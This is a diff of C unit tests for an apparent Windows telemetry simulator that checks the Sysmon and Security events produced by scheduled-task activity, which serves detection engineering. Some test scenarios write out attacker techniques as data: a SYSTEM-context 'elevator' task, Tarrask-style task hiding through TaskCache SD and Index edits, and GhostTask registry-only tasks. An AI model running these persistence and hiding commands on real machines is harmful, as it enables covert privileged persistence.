+     "xmlns=\\\"http://schemas.microsoft.com/windows/2004/02/mit/task\\\"><Principals><Principal "
+     "id=\\\"LocalSystem\\\"><UserId>S-1-5-18</UserId></Principal></Principals><Actions "
+     "Context=\\\"LocalSystem\\\"><Exec><Command>c:\\\\windows\\\\system32\\\\cmd.exe</Command></"
+     "Exec></Actions></Task>\"}},",
      "alice", 1, NULL,
-     "\\\"C:\\\\Windows\\\\System32\\\\schtasks.exe\\\" /create /xml c:\\\\users\\\\alice\\\\appdata\\\\local\\\\temp\\\\elevator.xml /tn elevator && schtasks /run /tn elevator",
+     "\\\"C:\\\\Windows\\\\System32\\\\schtasks.exe\\\" /create /xml "
+     "c:\\\\users\\\\alice\\\\appdata\\\\local\\\\temp\\\\elevator.xml /tn elevator && schtasks "
+     "/run /tn elevator",
      "\\elevator", "c:\\windows\\system32\\cmd.exe", NULL, "<Principal id=\"LocalSystem\">"},
 };
 
@@ -448,7 +541,7 @@ static void check_case(const tcase *c)
         print_error("%s: run failed (%d): %s\n", c->why, r.st, m);
         fail();
     }
-    tl_task *t = task_find(r.sim, c->task);
+    tl_task *t = tl_task_find(r.sim, c->task);
     if (!t) {
         print_error("%s: task %s not registered\n", c->why, c->task);
         fail();
@@ -485,12 +578,12 @@ static void check_case(const tcase *c)
     char *ctx = NULL;
     tl_task_action *acts = NULL;
     size_t n = 0;
-    assert_int_equal(task_actions_parse(av->data, av->len, &ver, &ctx, &acts, &n), TL_OK);
+    assert_int_equal(tl_task_actions_parse(av->data, av->len, &ver, &ctx, &acts, &n), TL_OK);
     assert_int_equal(ver, 3);
     assert_int_equal(n, 1);
     assert_string_equal(acts[0].command, c->cmd);
     assert_string_equal(ctx, t->context);
-    task_actions_free(acts, n);
+    tl_task_actions_free(acts, n);
     tl_free(ctx);
     /* hash of the file without BOM */
     char *data = NULL;
@@ -534,7 +627,8 @@ static void test_sim_schtasks_schedule_types_map_to_triggers(void **state)
         {"/sc onlogon", "<LogonTrigger>"},
         {"/sc onidle /i 10", "<IdleTrigger>"},
         {"/sc onevent /ec Security /mo \\\"*[System[EventID=4625]]\\\"", "<EventTrigger>"},
-        {"/sc daily /st 09:00 /ri 15 /du 0002:00 /k", "<StopAtDurationEnd>true</StopAtDurationEnd>"},
+        {"/sc daily /st 09:00 /ri 15 /du 0002:00 /k",
+         "<StopAtDurationEnd>true</StopAtDurationEnd>"},
         {"/sc daily /st 09:00 /ed 01/01/2030", "<EndBoundary>2030-01-01T23:59:59</EndBoundary>"},
         {"/sc onlogon /rl highest /np", "<LogonType>S4U</LogonType>"},
     };
@@ -568,20 +662,21 @@ static void test_sim_powershell_parent_loads_taskschd_once(void **state)
 {
     (void)state;
     run r;
-    assert_true(run_steps(&r,
-                          "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"parent\":\"C:\\\\"
-                          "Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\","
-                          "\"command\":\"$a = New-ScheduledTaskAction -Execute calc.exe; "
-                          "Register-ScheduledTask -TaskName p1 -Action $a -Trigger "
-                          "(New-ScheduledTaskTrigger -AtStartup) -User SYSTEM; Unregister-ScheduledTask "
-                          "-TaskName p1 -Confirm:$false\"}]",
-                          NULL, have_shared() ? MODULAR : NULL));
+    assert_true(
+        run_steps(&r,
+                  "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"parent\":\"C:\\\\"
+                  "Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\","
+                  "\"command\":\"$a = New-ScheduledTaskAction -Execute calc.exe; "
+                  "Register-ScheduledTask -TaskName p1 -Action $a -Trigger "
+                  "(New-ScheduledTaskTrigger -AtStartup) -User SYSTEM; Unregister-ScheduledTask "
+                  "-TaskName p1 -Confirm:$false\"}]",
+                  NULL, have_shared() ? MODULAR : NULL));
     const char *o = out(&r);
     const char *p = strstr(o, "taskschd.dll</Data>");
     assert_non_null(p);
     assert_null(strstr(p + 1, "<Data Name='ImageLoaded'>C:\\Windows\\System32\\taskschd.dll"));
     assert_null(strstr(o, "schtasks.exe")); /* cmdlets: no schtasks process */
-    assert_null(task_find(r.sim, "\\p1"));
+    assert_null(tl_task_find(r.sim, "\\p1"));
     run_free(&r);
 }
 
@@ -590,11 +685,12 @@ static void test_sim_cmd_child_has_double_space_and_syswow64(void **state)
     (void)state;
     run r;
     /* EVTX rundll32_cmd_schtask: a 32-bit parent runs cmd /C schtasks */
-    assert_true(run_steps(&r,
-                          "[{\"at\":0,\"user\":\"alice\",\"parent\":\"C:\\\\Windows\\\\SysWOW64\\\\"
-                          "rundll32.exe\",\"command\":\"\\\"C:\\\\Windows\\\\System32\\\\cmd.exe\\\""
-                          "  /C schtasks /Create /f /tn X /sc onlogon /tr calc.exe\"}]",
-                          NULL, have_shared() ? MODULAR : NULL));
+    assert_true(
+        run_steps(&r,
+                  "[{\"at\":0,\"user\":\"alice\",\"parent\":\"C:\\\\Windows\\\\SysWOW64\\\\"
+                  "rundll32.exe\",\"command\":\"\\\"C:\\\\Windows\\\\System32\\\\cmd.exe\\\""
+                  "  /C schtasks /Create /f /tn X /sc onlogon /tr calc.exe\"}]",
+                  NULL, have_shared() ? MODULAR : NULL));
     const char *o = out(&r);
     if (have_shared()) { /* the default config does not log cmd.exe */
         assert_non_null(strstr(o, "<Data Name='Image'>C:\\Windows\\SysWOW64\\cmd.exe</Data>"));
@@ -603,7 +699,7 @@ static void test_sim_cmd_child_has_double_space_and_syswow64(void **state)
     }
     assert_non_null(strstr(o, "<Data Name='Image'>C:\\Windows\\SysWOW64\\schtasks.exe</Data>"));
     assert_non_null(strstr(o, "<Data Name='CommandLine'>schtasks  /Create /f /tn X /sc onlogon"));
-    assert_non_null(task_find(r.sim, "\\X"));
+    assert_non_null(tl_task_find(r.sim, "\\X"));
     run_free(&r);
     /* "wow64": true marks any parent as 32-bit */
     assert_true(run_steps(&r,
@@ -632,8 +728,9 @@ static void test_sim_invalid_command_lines_are_step_errors(void **state)
     static const struct {
         const char *cmd, *msg;
     } bad[] = {
-        {"schtasks /create /tn x /tr calc.exe /sc onlogon /zz", "$.steps[0].command: schtasks "
-                                                               "/create: invalid argument/option - '/zz'"},
+        {"schtasks /create /tn x /tr calc.exe /sc onlogon /zz",
+         "$.steps[0].command: schtasks "
+         "/create: invalid argument/option - '/zz'"},
         {"schtasks /create /tn x /tr calc.exe /sc sometimes", "invalid value 'sometimes' for /SC"},
         {"schtasks /create /tn \\\"a|b\\\" /tr calc.exe /sc onlogon", "invalid task name"},
         {"schtasks /create /tn x /tr calc.exe /sc minute /mo 5000", "invalid value '5000' for /MO"},
@@ -647,7 +744,8 @@ static void test_sim_invalid_command_lines_are_step_errors(void **state)
     for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
         char steps[1024];
         snprintf(steps, sizeof steps,
-                 "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"%s\"}]", bad[i].cmd);
+                 "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"%s\"}]",
+                 bad[i].cmd);
         run r;
         assert_false(run_steps(&r, steps, NULL, NULL));
         char m[2048];
@@ -661,15 +759,17 @@ static void test_sim_invalid_command_lines_are_step_errors(void **state)
     }
     /* a malformed /xml file */
     run r;
-    assert_false(run_steps(&r,
-                           "[{\"at\":0,\"user\":\"alice\",\"file\":{\"op\":\"write\",\"path\":"
-                           "\"C:\\\\t.xml\",\"content\":\"<Task><oops></Task>\"}},{\"at\":1,\"user\":"
-                           "\"alice\",\"command\":\"schtasks /create /tn t /xml C:\\\\t.xml\"}]",
-                           NULL, NULL));
+    assert_false(
+        run_steps(&r,
+                  "[{\"at\":0,\"user\":\"alice\",\"file\":{\"op\":\"write\",\"path\":"
+                  "\"C:\\\\t.xml\",\"content\":\"<Task><oops></Task>\"}},{\"at\":1,\"user\":"
+                  "\"alice\",\"command\":\"schtasks /create /tn t /xml C:\\\\t.xml\"}]",
+                  NULL, NULL));
     assert_int_equal(r.st, TL_E_PARSE);
     char m[2048];
     tl_diag_format(&r.d, m, sizeof m);
-    assert_non_null(strstr(m, "$.steps[1].command: schtasks /create: C:\\t.xml: malformed task XML"));
+    assert_non_null(
+        strstr(m, "$.steps[1].command: schtasks /create: C:\\t.xml: malformed task XML"));
     run_free(&r);
 }
 
@@ -678,22 +778,24 @@ static void test_sim_runtime_refusals_change_nothing(void **state)
     (void)state;
     run r;
     /* bob is no administrator: /ru SYSTEM is access denied; the process is still seen */
-    assert_true(run_steps(&r,
-                          "[{\"at\":0,\"user\":\"bob\",\"command\":\"schtasks /create /tn x /tr "
-                          "calc.exe /sc onlogon /ru SYSTEM\"},{\"at\":1,\"user\":\"bob\",\"command\":"
-                          "\"reg add HKLM\\\\Software\\\\x /f\"}]",
-                          NULL, NULL));
-    assert_null(task_find(r.sim, "\\x"));
-    assert_null(reg_find(r.sim, "HKLM\\Software\\x"));
+    assert_true(
+        run_steps(&r,
+                  "[{\"at\":0,\"user\":\"bob\",\"command\":\"schtasks /create /tn x /tr "
+                  "calc.exe /sc onlogon /ru SYSTEM\"},{\"at\":1,\"user\":\"bob\",\"command\":"
+                  "\"reg add HKLM\\\\Software\\\\x /f\"}]",
+                  NULL, NULL));
+    assert_null(tl_task_find(r.sim, "\\x"));
+    assert_null(tl_reg_find(r.sim, "HKLM\\Software\\x"));
     assert_non_null(strstr(out(&r), "schtasks  /create /tn x"));
     run_free(&r);
     /* existing task without /f: not replaced */
-    assert_true(run_steps(&r,
-                          "[{\"at\":0,\"user\":\"alice\",\"command\":\"schtasks /create /tn x /tr "
-                          "a.exe /sc onlogon\"},{\"at\":1,\"user\":\"alice\",\"command\":\"schtasks "
-                          "/create /tn x /tr b.exe /sc onlogon\"}]",
-                          NULL, NULL));
-    assert_string_equal(task_find(r.sim, "\\x")->actions[0].command, "a.exe");
+    assert_true(
+        run_steps(&r,
+                  "[{\"at\":0,\"user\":\"alice\",\"command\":\"schtasks /create /tn x /tr "
+                  "a.exe /sc onlogon\"},{\"at\":1,\"user\":\"alice\",\"command\":\"schtasks "
+                  "/create /tn x /tr b.exe /sc onlogon\"}]",
+                  NULL, NULL));
+    assert_string_equal(tl_task_find(r.sim, "\\x")->actions[0].command, "a.exe");
     run_free(&r);
 }
 
@@ -710,7 +812,7 @@ static void test_sim_delete_change_disable(void **state)
         "{\"at\":2,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /change /tn "
         "\\\\Updates\\\\u1 /disable\"}]",
         NULL, NULL));
-    tl_task *t = task_find(r.sim, "\\Updates\\u1");
+    tl_task *t = tl_task_find(r.sim, "\\Updates\\u1");
     assert_non_null(t);
     assert_string_equal(t->actions[0].command, "C:\\b.exe");
     assert_string_equal(t->actions[0].arguments, "-x");
@@ -727,12 +829,13 @@ static void test_sim_delete_change_disable(void **state)
         "{\"at\":60,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /delete /tn "
         "test-task\"}]",
         NULL, NULL));
-    assert_null(task_find(r.sim, "\\test-task"));
-    assert_null(reg_find(r.sim, TL_TASKCACHE "\\Tree\\test-task"));
+    assert_null(tl_task_find(r.sim, "\\test-task"));
+    assert_null(tl_reg_find(r.sim, TL_TASKCACHE "\\Tree\\test-task"));
     char *data;
     size_t len;
-    assert_int_equal(tl_sim_read_file(r.sim, "C:\\Windows\\System32\\Tasks\\test-task", &data, &len),
-                     TL_E_NOTFOUND);
+    assert_int_equal(
+        tl_sim_read_file(r.sim, "C:\\Windows\\System32\\Tasks\\test-task", &data, &len),
+        TL_E_NOTFOUND);
     assert_non_null(strstr(out(&r), "<Data Name='EventType'>DeleteKey</Data>"));
     run_free(&r);
 }
@@ -750,9 +853,9 @@ static void test_sim_tarrask_and_index_hiding(void **state)
     const char *cfg = have_shared() ? MODULAR : NULL;
     run r;
     assert_true(run_steps(&r, steps, NULL, cfg));
-    tl_task *t = task_find(r.sim, "\\WinUpdate");
+    tl_task *t = tl_task_find(r.sim, "\\WinUpdate");
     assert_non_null(t);
-    assert_false(task_visible(r.sim, t));
+    assert_false(tl_task_visible(r.sim, t));
     char *q = NULL;
     assert_int_equal(tl_sim_schtasks_query(r.sim, "CSV", &q), TL_OK);
     assert_null(strstr(q, "WinUpdate"));
@@ -765,18 +868,20 @@ static void test_sim_tarrask_and_index_hiding(void **state)
     if (cfg) {
         assert_non_null(strstr(out(&r), "<Data Name='EventType'>DeleteValue</Data>"));
         assert_non_null(strstr(out(&r), "TaskCache\\Tree\\WinUpdate\\SD</Data>"));
-        assert_non_null(strstr(out(&r), "<Data Name='Image'>C:\\Windows\\System32\\reg.exe</Data>"));
+        assert_non_null(
+            strstr(out(&r), "<Data Name='Image'>C:\\Windows\\System32\\reg.exe</Data>"));
     }
     run_free(&r);
     /* a non-SYSTEM administrator cannot touch TaskCache */
-    assert_true(run_steps(&r,
-                          "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
-                          "/create /tn W2 /tr w.exe /sc onlogon\"},{\"at\":1,\"user\":\"alice\","
-                          "\"elevated\":true,\"command\":\"reg add \\\"HKLM\\\\SOFTWARE\\\\Microsoft"
-                          "\\\\Windows NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tree\\\\W2\\\""
-                          " /v Index /t REG_DWORD /d 0 /f\"}]",
-                          NULL, NULL));
-    assert_true(task_visible(r.sim, task_find(r.sim, "\\W2")));
+    assert_true(
+        run_steps(&r,
+                  "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
+                  "/create /tn W2 /tr w.exe /sc onlogon\"},{\"at\":1,\"user\":\"alice\","
+                  "\"elevated\":true,\"command\":\"reg add \\\"HKLM\\\\SOFTWARE\\\\Microsoft"
+                  "\\\\Windows NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tree\\\\W2\\\""
+                  " /v Index /t REG_DWORD /d 0 /f\"}]",
+                  NULL, NULL));
+    assert_true(tl_task_visible(r.sim, tl_task_find(r.sim, "\\W2")));
     run_free(&r);
 }
 
@@ -784,19 +889,20 @@ static void test_sim_ghosttask_registry_only(void **state)
 {
     (void)state;
     run r;
-    assert_true(run_steps(&r,
-                          "[{\"at\":0,\"user\":\"SYSTEM\",\"command\":\"C:\\\\Tools\\\\GhostTask.exe "
-                          "localhost add lilghostie \\\"cmd.exe\\\" \\\"/c notepad.exe\\\" "
-                          "DESKTOP-4E0BQFT\\\\alice logon\"}]",
-                          NULL, have_shared() ? MODULAR : NULL));
-    tl_task *t = task_find(r.sim, "\\lilghostie");
+    assert_true(
+        run_steps(&r,
+                  "[{\"at\":0,\"user\":\"SYSTEM\",\"command\":\"C:\\\\Tools\\\\GhostTask.exe "
+                  "localhost add lilghostie \\\"cmd.exe\\\" \\\"/c notepad.exe\\\" "
+                  "DESKTOP-4E0BQFT\\\\alice logon\"}]",
+                  NULL, have_shared() ? MODULAR : NULL));
+    tl_task *t = tl_task_find(r.sim, "\\lilghostie");
     assert_non_null(t);
     assert_true(t->registry_only);
     char *data;
     size_t len;
-    assert_int_equal(tl_sim_read_file(r.sim, "C:\\Windows\\System32\\Tasks\\lilghostie", &data,
-                                      &len),
-                     TL_E_NOTFOUND);
+    assert_int_equal(
+        tl_sim_read_file(r.sim, "C:\\Windows\\System32\\Tasks\\lilghostie", &data, &len),
+        TL_E_NOTFOUND);
     char key[300];
     snprintf(key, sizeof key, TL_TASKCACHE "\\Tasks\\%s", t->guid);
     tl_regval *av = regval(&r, key, "Actions");
@@ -805,13 +911,13 @@ static void test_sim_ghosttask_registry_only(void **state)
     char *ctx;
     tl_task_action *a;
     size_t n;
-    assert_int_equal(task_actions_parse(av->data, av->len, &ver, &ctx, &a, &n), TL_OK);
+    assert_int_equal(tl_task_actions_parse(av->data, av->len, &ver, &ctx, &a, &n), TL_OK);
     assert_string_equal(a[0].command, "cmd.exe");
     assert_string_equal(a[0].arguments, "/c notepad.exe");
-    task_actions_free(a, n);
+    tl_task_actions_free(a, n);
     tl_free(ctx);
     snprintf(key, sizeof key, TL_TASKCACHE "\\Plain\\%s", t->guid);
-    assert_non_null(reg_find(r.sim, key));
+    assert_non_null(tl_reg_find(r.sim, key));
     if (have_shared()) /* non-svchost Actions writer: logged by sysmon-modular */
         assert_non_null(strstr(out(&r), "\\Actions</Data><Data Name='Details'>Binary Data"));
     run_free(&r);
@@ -821,16 +927,18 @@ static void test_sim_security_and_taskscheduler_channels(void **state)
 {
     (void)state;
     run r;
-    assert_true(run_steps(&r,
-                          "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
-                          "/create /tn t1 /tr calc.exe /sc onlogon /ru SYSTEM\"},{\"at\":2,\"user\":"
-                          "\"alice\",\"elevated\":true,\"command\":\"schtasks /delete /tn t1 /f\"}]",
-                          ",\"channels\":{\"security\":true,\"taskscheduler\":true}", NULL));
+    assert_true(
+        run_steps(&r,
+                  "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
+                  "/create /tn t1 /tr calc.exe /sc onlogon /ru SYSTEM\"},{\"at\":2,\"user\":"
+                  "\"alice\",\"elevated\":true,\"command\":\"schtasks /delete /tn t1 /f\"}]",
+                  ",\"channels\":{\"security\":true,\"taskscheduler\":true}", NULL));
     const char *o = out(&r);
     assert_non_null(strstr(o, "<EventID>4698</EventID>"));
     assert_non_null(strstr(o, "<EventID>4699</EventID>"));
     assert_non_null(strstr(o, "<Data Name='TaskName'>\\t1</Data>"));
-    assert_non_null(strstr(o, "<Data Name='TaskContent'>&lt;?xml version=\"1.0\" encoding=\"UTF-16\"?&gt;"));
+    assert_non_null(
+        strstr(o, "<Data Name='TaskContent'>&lt;?xml version=\"1.0\" encoding=\"UTF-16\"?&gt;"));
     assert_non_null(strstr(o, "<Keywords>0x8020000000000000</Keywords>"));
     assert_non_null(strstr(o, "<EventID>106</EventID>"));
     assert_non_null(strstr(o, "<EventID>141</EventID>"));
@@ -846,13 +954,13 @@ static void test_sim_x86_domain_endpoint(void **state)
                           "/create /tn d1 /tr calc.exe /sc onlogon /ru CORP\\\\bob\"}]",
                           ",\"arch\":\"x86\",\"domain\":\"corp.example.com\"", NULL));
     assert_string_equal(tl_sim_agent_dir(r.sim), "C:\\Program Files\\ossec-agent");
-    tl_regval *v = regval(&r, "HKLM\\HARDWARE\\DESCRIPTION\\System\\CentralProcessor\\0",
-                          "Identifier");
+    tl_regval *v =
+        regval(&r, "HKLM\\HARDWARE\\DESCRIPTION\\System\\CentralProcessor\\0", "Identifier");
     assert_non_null(v);
     assert_non_null(strstr((const char *)v->data, "x86"));
     assert_non_null(strstr(out(&r), "<Computer>DESKTOP-4E0BQFT.corp.example.com</Computer>"));
     assert_non_null(strstr(out(&r), "<Data Name='User'>CORP\\alice</Data>"));
-    tl_task *t = task_find(r.sim, "\\d1");
+    tl_task *t = tl_task_find(r.sim, "\\d1");
     assert_non_null(t);
     assert_string_equal(t->user_id, r.sim->users[2].sid);
     run_free(&r);
@@ -862,15 +970,16 @@ static void test_sim_registry_and_file_steps(void **state)
 {
     (void)state;
     run r;
-    assert_true(run_steps(&r,
-                          "[{\"at\":0,\"user\":\"alice\",\"registry\":{\"op\":\"set_value\",\"key\":"
-                          "\"HKCU\\\\Software\\\\ATOMIC\",\"value\":\"test\",\"type\":\"REG_SZ\","
-                          "\"data\":\"cGluZw==\"}},{\"at\":1,\"user\":\"SYSTEM\",\"registry\":{\"op\":"
-                          "\"set_value\",\"key\":\"hkey_local_machine\\\\software\\\\microsoft\\\\"
-                          "windows nt\\\\currentversion\\\\schedule\\\\taskcache\\\\tree\\\\Microsoft"
-                          "\\\\Windows\\\\UpdateOrchestrator\\\\Schedule Scan\",\"value\":\"Index\","
-                          "\"type\":\"REG_DWORD\",\"data\":0}}]",
-                          NULL, have_shared() ? MODULAR : NULL));
+    assert_true(
+        run_steps(&r,
+                  "[{\"at\":0,\"user\":\"alice\",\"registry\":{\"op\":\"set_value\",\"key\":"
+                  "\"HKCU\\\\Software\\\\ATOMIC\",\"value\":\"test\",\"type\":\"REG_SZ\","
+                  "\"data\":\"cGluZw==\"}},{\"at\":1,\"user\":\"SYSTEM\",\"registry\":{\"op\":"
+                  "\"set_value\",\"key\":\"hkey_local_machine\\\\software\\\\microsoft\\\\"
+                  "windows nt\\\\currentversion\\\\schedule\\\\taskcache\\\\tree\\\\Microsoft"
+                  "\\\\Windows\\\\UpdateOrchestrator\\\\Schedule Scan\",\"value\":\"Index\","
+                  "\"type\":\"REG_DWORD\",\"data\":0}}]",
+                  NULL, have_shared() ? MODULAR : NULL));
     char key[300];
     snprintf(key, sizeof key, "HKU\\%s\\Software\\ATOMIC", r.sim->users[1].sid);
     tl_regval *v = regval(&r, key, "test");
@@ -878,11 +987,13 @@ static void test_sim_registry_and_file_steps(void **state)
     assert_string_equal((const char *)v->data, "cGluZw==");
     /* stored casing is kept in TargetObject */
     if (have_shared())
-        assert_non_null(strstr(out(&r), "<Data Name='TargetObject'>HKLM\\SOFTWARE\\Microsoft\\"
-                                        "Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\"
-                                        "Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan\\Index"
-                                        "</Data><Data Name='Details'>DWORD (0x00000000)</Data>"));
-    assert_false(task_visible(r.sim, task_find(r.sim, "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan")));
+        assert_non_null(strstr(out(&r),
+                               "<Data Name='TargetObject'>HKLM\\SOFTWARE\\Microsoft\\"
+                               "Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\"
+                               "Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan\\Index"
+                               "</Data><Data Name='Details'>DWORD (0x00000000)</Data>"));
+    assert_false(tl_task_visible(
+        r.sim, tl_task_find(r.sim, "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan")));
     run_free(&r);
 }
 
@@ -893,7 +1004,8 @@ static void test_sim_argv_rules(void **state)
         const char *in;
         const char *out[6];
     } cs[] = {
-        {"schtasks /tr \"C:\\a b\\c.exe \\\"x\\\"\" /f", {"schtasks", "/tr", "C:\\a b\\c.exe \"x\"", "/f"}},
+        {"schtasks /tr \"C:\\a b\\c.exe \\\"x\\\"\" /f",
+         {"schtasks", "/tr", "C:\\a b\\c.exe \"x\"", "/f"}},
         {"\"C:\\Program Files\\x.exe\" a\\\\\\\"b c", {"C:\\Program Files\\x.exe", "a\\\"b", "c"}},
         {"x a\\\\\\\\\"b c\" d", {"x", "a\\\\b c", "d"}},
         {"x \"\" \"a\"\"b\"", {"x", "", "a\"b"}},
@@ -930,10 +1042,11 @@ static void test_sim_argv_rules(void **state)
 static void test_sim_noise_is_fast_and_ordered(void **state)
 {
     (void)state;
-    char *j = scen_json("[{\"at\":0,\"noise\":{\"events\":100000,\"duration\":600}},{\"at\":300,"
-                        "\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /create /tn n1 "
-                        "/tr calc.exe /sc onlogon /ru System\"}]",
-                        NULL);
+    char *j =
+        scen_json("[{\"at\":0,\"noise\":{\"events\":100000,\"duration\":600}},{\"at\":300,"
+                  "\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /create /tn n1 "
+                  "/tr calc.exe /sc onlogon /ru System\"}]",
+                  NULL);
     tl_diag d;
     tl_scenario *sc = load_str(j, &d);
     tl_free(j);
@@ -993,12 +1106,12 @@ static void test_sim_drive_c_mirror_merges_case_insensitively(void **state)
     struct stat sb;
     assert_int_equal(stat(p, &sb), 0);
     assert_true(sb.st_size > 100);
-    assert_int_equal(tl_sim_append_file(s, "C:\\Program Files (x86)\\ossec-agent\\logs\\x.log",
-                                        "a\n", 2),
-                     TL_OK);
-    assert_int_equal(tl_sim_append_file(s, "C:\\Program Files (x86)\\ossec-agent\\logs\\x.log",
-                                        "b\n", 2),
-                     TL_OK);
+    assert_int_equal(
+        tl_sim_append_file(s, "C:\\Program Files (x86)\\ossec-agent\\logs\\x.log", "a\n", 2),
+        TL_OK);
+    assert_int_equal(
+        tl_sim_append_file(s, "C:\\Program Files (x86)\\ossec-agent\\logs\\x.log", "b\n", 2),
+        TL_OK);
     snprintf(p, sizeof p, "%s/Program Files (x86)/ossec-agent/logs/x.log", dir);
     char *data;
     size_t len;
@@ -1061,15 +1174,16 @@ static tl_status seed_once(const char *json, int run_sim)
 static void test_sim_alloc_fail_is_nomem(void **state)
 {
     (void)state;
-    char *j = scen_json("[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
-                        "/create /tn test-task /tr \\\"C:\\\\Windows\\\\System32\\\\calc.exe\\\" "
-                        "/sc onlogon /ru System /f & reg add HKCU\\\\Software\\\\x /v a /d b /f\"},"
-                        "{\"at\":1,\"noise\":{\"events\":20,\"duration\":2}},{\"at\":2,\"user\":"
-                        "\"alice\",\"elevated\":true,\"parent\":\"C:\\\\Windows\\\\System32\\\\"
-                        "WindowsPowerShell\\\\v1.0\\\\powershell.exe\",\"command\":\"$a = "
-                        "New-ScheduledTaskAction -Execute x.exe; Register-ScheduledTask -TaskName p "
-                        "-Action $a -Force\"}]",
-                        ",\"channels\":{\"security\":true,\"taskscheduler\":true}");
+    char *j =
+        scen_json("[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
+                  "/create /tn test-task /tr \\\"C:\\\\Windows\\\\System32\\\\calc.exe\\\" "
+                  "/sc onlogon /ru System /f & reg add HKCU\\\\Software\\\\x /v a /d b /f\"},"
+                  "{\"at\":1,\"noise\":{\"events\":20,\"duration\":2}},{\"at\":2,\"user\":"
+                  "\"alice\",\"elevated\":true,\"parent\":\"C:\\\\Windows\\\\System32\\\\"
+                  "WindowsPowerShell\\\\v1.0\\\\powershell.exe\",\"command\":\"$a = "
+                  "New-ScheduledTaskAction -Execute x.exe; Register-ScheduledTask -TaskName p "
+                  "-Action $a -Force\"}]",
+                  ",\"channels\":{\"security\":true,\"taskscheduler\":true}");
     for (int phase = 0; phase < 2; phase++) {
         tl_alloc_fail_at(0);
         assert_int_equal(seed_once(j, phase), TL_OK);
